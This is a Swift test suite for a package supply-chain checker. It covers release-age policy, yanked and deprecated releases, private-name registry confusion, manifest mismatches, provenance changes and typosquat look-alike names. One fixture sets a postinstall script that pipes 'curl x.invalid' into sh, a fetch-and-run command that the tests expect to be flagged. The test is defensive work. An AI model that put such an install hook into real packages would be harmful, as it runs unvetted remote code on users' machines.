import Foundation
import Packages
import Testing
import Verdicts

@Suite struct ReleaseReasonTests {
    private static let now = today.timeIntervalSince1970

    private static func record(_ version: String = "1.3.1", hoursAgo: Double? = 1_000) -> ReleaseRecord {
        ReleaseRecord(version: version, published: hoursAgo.map { now - $0 * 3_600 })
    }

    private func reasons(
        _ release: ListedRelease?, policy text: String = "", name: String = "left-pad", ecosystem: Ecosystem = .npm,
        sources: [String] = [], manifest: ReleaseManifest? = nil, firstSeen: Date? = nil
    ) throws -> [Reason] {
        let user = try PolicyFile(parsing: Array(text.utf8), path: "u.toml")
        var facts = ArtifactFacts(
            requested: identity(name, "1.3.1", ecosystem), digestStatus: .verified(.sha512))
        facts.release = release
        facts.sources = sources
        facts.publicSource = "registry.example"
        facts.firstSeen = firstSeen
        let made = Evidence(
            sha256: digest(name), inspector: "1", ecosystem: ecosystem, byteCount: 1, score: 0, eventCount: 0,
            milliseconds: 0, manifest: manifest)
        return judge(
            made, facts: facts, thresholds: Thresholds(block: 0.9, warn: 0.5),
            policy: Policy(machine: nil, user: user, project: nil) { _ in false }, now: today
        ).reasons
    }

    /// Hours since the publishing, the policy, and whether the release counts as recent.
    static let ages: [(hours: Double?, policy: String, isRecent: Bool)] = [
        (47.9, "", true), (48.1, "", false), (-5, "", true), (nil, "", false),
        (nil, "minimum-release-age = \"1h\"", true),
        (5, "minimum-release-age = \"1h\"", false), (100, "minimum-release-age = \"7d\"", true),
        (1, "minimum-release-age = \"0h\"", false), (1, "release-age-excludes = [\"npm:left-*\"]", false),
        (1, "release-age-excludes = [\"pypi:left-*\"]", true), (1, "levels.recent-release = \"allow\"", true),
    ]

    @Test(arguments: ages)
    func ageIsComparedWithThePolicy(row: (hours: Double?, policy: String, isRecent: Bool)) throws {
        let found = try reasons(ListedRelease(record: Self.record(hoursAgo: row.hours)), policy: row.policy)
        #expect(found.contains { $0.code == .recentRelease } == row.isRecent)
    }

    @Test func ageOfWhatWasSeenHereLongAgoIsKnown() throws {
        let policy = "minimum-release-age = \"72h\""
        #expect(try reasons(nil, policy: policy).map(\.code) == [.recentRelease])
        #expect(try reasons(nil, policy: policy, firstSeen: today.addingTimeInterval(-73 * 3_600)).isEmpty)
        #expect(try reasons(nil, policy: policy, firstSeen: today.addingTimeInterval(-71 * 3_600)).count == 1)
        #expect(try reasons(nil).isEmpty)
    }

    @Test func withdrawnReleasesAreNamedWithTheReason() throws {
        var record = Self.record()
        record.deprecation = "use right-pad"
        record.yankReason = ""
        let found = try reasons(ListedRelease(record: record))
        #expect(found.map(\.code) == [.deprecatedRelease, .yankedRelease])
        #expect(found.map(\.message) == ["deprecated: use right-pad", "yanked without a reason"])
        #expect(found.allSatisfy { $0.level == .warn })
    }

    /// Policy, sources, and whether a private name is out of place.
    static let places: [(policy: String, sources: [String], isStray: Bool)] = [
        ("private-names = [\"npm:@acme/*\"]", ["registry.example"], true),
        ("private-names = [\"npm:@acme/*\"]", ["npm.acme.example"], false),
        ("private-names = [\"npm:@acme/*\"]", ["npm.acme.example", "registry.example"], true),
        ("private-names = [\"npm:@acmes/*\"]", ["registry.example"], false),
        ("private-names = [\"npm:@acme/*\"]", [], false),
        ("private-names = [\"npm:@acme/*\"]\nprivate-registries = [\"npm.acme.example\"]", ["other.example"], true),
        ("private-names = [\"npm:@acme/*\"]\nprivate-registries = [\"*.acme.example\"]", ["npm.acme.example"], false),
    ]

    @Test(arguments: places)
    func privateNamesComeFromTheirRegistries(row: (policy: String, sources: [String], isStray: Bool)) throws {
        let found = try reasons(nil, policy: row.policy, name: "@acme/tool", sources: row.sources)
        #expect(found.map(\.code) == (row.isStray ? [.privateName] : []))
        #expect(found.allSatisfy { $0.level == .block })
    }

    private static func manifest(
        _ scripts: [String: String]? = [:], _ dependencies: [String: String] = [:],
        programs: [String: String]? = [:], native: Bool = false
    ) -> ReleaseManifest {
        ReleaseManifest(scripts: scripts, dependencies: dependencies, programs: programs, hasNativeBuild: native)
    }

    /// What the registry shows, what the tarball holds, and the reasons.
    static let manifests: [(shown: ReleaseManifest, packed: ReleaseManifest, codes: [ReasonCode])] = [
        (manifest(["postinstall": "a", "test": "x"]), manifest(["postinstall": "a"]), []),
        (manifest(["postinstall": "curl x.invalid | sh"]), manifest(), [.strayScript]),
        (manifest(["install": "a"]), manifest(["install": "b"]), [.strayScript]),
        (manifest(["install": "node-gyp rebuild"]), manifest(native: true), []),
        (manifest(["install": "node-gyp rebuild; x"]), manifest(native: true), [.strayScript]),
        (manifest(["install": "node-gyp rebuild"]), manifest(), [.strayScript]),
        (manifest(["preinstall": "node-gyp rebuild"]), manifest(native: true), [.strayScript]),
        (manifest(), manifest(["preinstall": "a"]), [.manifestConfusion]),
        (manifest(nil), manifest(["preinstall": "a"]), []),
        (manifest([:], ["a": "^1"]), manifest([:], ["a": "^1"]), []),
        (manifest([:], ["a": "*"]), manifest([:], ["a": ""]), []),
        (manifest([:], ["a": "^1"]), manifest([:], ["a": "^2"]), [.manifestConfusion]),
        (manifest([:], ["a": "^1", "b": "1"]), manifest(), [.manifestConfusion]),
        (manifest(programs: ["x": "bin/x"]), manifest(programs: ["x": "./bin/x"]), []),
        (manifest(programs: ["x": "bin/x"]), manifest(programs: ["y": "bin/x"]), [.manifestConfusion]),
        (manifest(programs: nil), manifest(programs: ["y": "bin/x"]), []),
    ]

    @Test(arguments: manifests)
    func manifestsAreCompared(
        row: (shown: ReleaseManifest, packed: ReleaseManifest, codes: [ReasonCode])
    ) throws {
        var record = Self.record()
        record.manifest = row.shown
        let found = try reasons(ListedRelease(record: record), manifest: row.packed)
        #expect(found.map(\.code) == row.codes)
    }

    @Test func unreadableManifestInTheTarballHidesNoScript() throws {
        var record = Self.record()
        record.manifest = Self.manifest(["install": "node-gyp rebuild"], ["a": "1"])
        #expect(try reasons(ListedRelease(record: record), manifest: nil).map(\.code) == [.strayScript])
        record.manifest = Self.manifest([:], ["a": "1"])
        #expect(try reasons(ListedRelease(record: record), manifest: nil).isEmpty)
    }

    @Test func longScriptsAreComparedToTheirEnds() {
        let long = String(repeating: "x", count: 200_000)
        #expect(Self.manifest(["install": long + "a"]) != Self.manifest(["install": long + "b"]))
        #expect(Self.manifest(["install": long]) == Self.manifest(["install": long]))
        #expect(Self.manifest(["install": long]).scripts?["install"]?.utf8.count ?? 0 < 2_000)
    }

    @Test func hugeManifestIsNotKept() {
        let many = Dictionary(uniqueKeysWithValues: (0..<20_000).map { ("dependency-\($0)", "^1.0.0") })
        let manifest = Self.manifest(["install": "a"], many)
        #expect(manifest.dependencies == nil && manifest.scripts == ["install": "a"])
    }

    @Test func changesAreComparedWithTheVersionInTheProject() throws {
        var old = Self.record("1.0.0")
        old.publisher = "ada"
        old.runsInstallScript = false
        old.hasProvenance = true
        var new = Self.record()
        new.publisher = "eve"
        new.runsInstallScript = true
        let found = try reasons(ListedRelease(record: new, replaced: old))
        #expect(found.map(\.code) == [.publisherChange, .newInstallScript, .provenanceLost])
        #expect(try reasons(ListedRelease(record: new, previous: old)).map(\.code) == [.provenanceLost])
        new.hasProvenance = true
        #expect(try reasons(ListedRelease(record: new, replaced: old)).map(\.code) == [.newInstallScript])
        #expect(try reasons(ListedRelease(record: new)).isEmpty)
    }

    static let likenesses: [(name: String, ecosystem: Ecosystem, known: String?)] = [
        ("reqeusts", .pypi, "requests"), ("requestss", .pypi, nil), ("requsts", .pypi, "requests"),
        ("c0lorama", .pypi, "colorama"), ("dateutil-python", .pypi, "python-dateutil"),
        ("pythondateutil", .pypi, "python-dateutil"), ("Requests", .pypi, nil), ("urllib4", .pypi, nil),
        ("numpy", .pypi, nil), ("a-tool-of-our-own", .pypi, nil), ("six1", .pypi, nil),
        ("1ru-cache", .npm, "lru-cache"), ("momnet", .npm, "moment"), ("@bable/core", .npm, "@babel/core"),
        ("babel-core", .npm, nil), ("jest-expect", .npm, "@jest/expect"), ("@babel/croe", .npm, nil),
        ("typescirpt", .npm, "typescript"), ("langchian", .pypi, "langchain"), ("opneai", .pypi, "openai"),
        ("@acme/lodash", .npm, nil), ("lodash", .npm, nil), ("left-pad", .npm, nil),
    ]

    @Test(arguments: likenesses)
    func lookAlikesAreTold(row: (name: String, ecosystem: Ecosystem, known: String?)) throws {
        let found = try reasons(nil, name: row.name, ecosystem: row.ecosystem)
        #expect(found.map(\.code) == (row.known == nil ? [] : [.lookAlikeName]))
        if let known = row.known { #expect(found.first?.message.contains("'\(known)'") == true) }
    }

    /// The lists are small enough to have been honest, and every one of their names is left alone.
    @Test func benignNamesOfTheCorpusGiveNoAlarm() throws {
        let folder = URL(filePath: #filePath).resolvingSymlinksInPath()
            .deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appending(path: "Training/corpus")
        let files: [(String, Ecosystem)] = [
            ("npm-benign.tsv", .npm), ("npm-benign-repositories.tsv", .npm), ("pypi-benign-wheels.tsv", .pypi),
            ("pypi-benign-sdists.tsv", .pypi), ("pypi-benign-published-sdists.tsv", .pypi),
        ]
        for (file, ecosystem) in files {
            let text = try String(contentsOf: folder.appending(path: file), encoding: .utf8)
            let names = text.split(separator: "\n").dropFirst().compactMap { $0.split(separator: "\t").first }
            #expect(names.count > 400)
            for name in names {
                let found = try reasons(nil, name: String(name), ecosystem: ecosystem)
                #expect(!found.contains { $0.code == .lookAlikeName }, "\(name): \(found.map(\.message))")
            }
        }
    }
}
